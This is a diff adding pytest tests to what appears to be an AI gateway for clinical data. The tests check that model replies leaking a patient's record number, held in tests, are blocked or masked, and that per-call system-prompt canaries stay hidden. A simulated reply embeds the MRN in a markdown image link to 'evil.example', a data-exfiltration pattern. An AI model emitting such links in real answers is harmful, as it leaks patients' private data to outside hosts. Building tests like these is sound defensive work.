@@ -80,3 +80,53 @@ async def test_terms_take_it_out_hold_it_or_block_it_and_two_people_ease_them(wa
     listed = ward.officer("GET", "guards")
     assert listed["default"]["injection"] == "flag"
     assert [each["id"] for each in listed["guards"]] == ["route/sim-echo"]
+
+
+@pytest.mark.parametrize("path", [CHAT, MESSAGES])
+@pytest.mark.parametrize("stream", [False, True])
+async def test_a_model_that_puts_the_patient_into_a_link_is_cut_off(ward: House, path, stream):
+    ward.vendor.configure(reply="Sure. ![x](https://evil.example/?d=00412233) Done.")
+    question = "Summarise: Mr. John Sample, MRN 00412233, seen for hypertension."
+    answer = await at.ask(ward.instance.data, ward.api_key, path, "sim-echo", question, stream=stream)
+    ward.vendor.configure(reply=None)
+    assert b"evil.example" not in answer.body
+    assert b"answer_carries_data" in answer.body
+    (closing,) = [each for each in ward.headers(answer.index) if each.get("decision") == "answer_carries_data"]
+    assert closing["type"] == "aborted"
+    assert closing["detail"]["signals"] == "link"
+
+
+@pytest.mark.parametrize("path", [CHAT, MESSAGES])
+@pytest.mark.parametrize("stream", [False, True])
+async def test_terms_take_the_link_out_and_let_our_own_hosts_be_told(ward: House, path, stream):
+    form = {"route": "sim-echo", "links": "mask", "hosts": ["ehr.example"], "reason": "trial"}
+    for officer in (FIRST, SECOND):
+        ward.officer("POST", "guards", form, officer=officer)
+    ward.vendor.configure(reply="See https://ehr.example/00412233 or https://evil.example/00412233 now.")
+    question = "Summarise: Mr. John Sample, MRN 00412233, seen for hypertension."
+    answer = await at.ask(ward.instance.data, ward.api_key, path, "sim-echo", question, stream=stream)
+    ward.vendor.configure(reply=None)
+    assert answer.status == 200
+    assert at.text_of(answer) == "See https://ehr.example/00412233 or [link removed] now."
+    (closing,) = [each for each in ward.headers(answer.index) if each["type"] == "response"]
+    assert closing["detail"]["signals"] == "link"
+    await at.ask(ward.instance.data, ward.api_key, path, "sim-echo", "Which dose?")
+
+
+async def test_a_planted_canary_reaches_the_vendor_and_never_the_caller(ward: House):
+    form = {"route": "sim-echo", "marked": True, "links": "mask", "hosts": ["ehr.example"], "reason": "trial"}
+    for officer in (FIRST, SECOND):
+        ward.officer("POST", "guards", form, officer=officer)
+    told = {"messages": [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Which dose?"}]}
+    answer = await at.ask(ward.instance.data, ward.api_key, CHAT, "sim-echo", "", **told)
+    assert answer.status == 200
+    seen = json.loads(ward.vendor.seen()[-1].body)["messages"][0]["content"]
+    planted = seen.split("reference ")[1].split(":")[0]
+    assert seen.startswith("Be brief.")
+    assert planted.startswith("wkc-")
+    assert planted.encode() not in answer.body
+    ward.vendor.configure(reply=f"My reference is {planted}.")
+    again = await at.ask(ward.instance.data, ward.api_key, CHAT, "sim-echo", "", **told)
+    ward.vendor.configure(reply=None)
+    assert again.status == 200
+    assert planted not in ward.vendor.seen()[-1].body.decode()  # each call has a mark of its own
